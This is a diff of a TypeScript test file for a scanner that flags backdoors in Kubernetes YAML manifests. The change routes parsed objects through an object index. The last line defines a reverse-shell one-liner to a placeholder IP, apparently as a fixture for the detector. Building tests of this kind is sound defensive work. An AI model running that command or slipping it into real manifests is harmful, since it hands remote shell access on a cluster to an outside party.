@@ -1,10 +1,13 @@
 import { describe, expect, test } from "vitest";
 import { readDocuments } from "../../../kube/yaml/read-documents.ts";
 import { readObjects } from "../../../kube/read-objects.ts";
+import { objectIndex } from "../practices/object-index.ts";
 import { backdoorFindings } from "./backdoor-findings.ts";
 
 const found = (text: string) =>
-  backdoorFindings(readObjects(readDocuments("a.yaml", new TextEncoder().encode(text))).objects, 37).map(
+  backdoorFindings(
+    objectIndex(readObjects(readDocuments("a.yaml", new TextEncoder().encode(text))).objects, 37),
+  ).map(
     ({ code, path }) => `${code} ${path?.join(".") ?? ""}`,
   );
 const shell = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
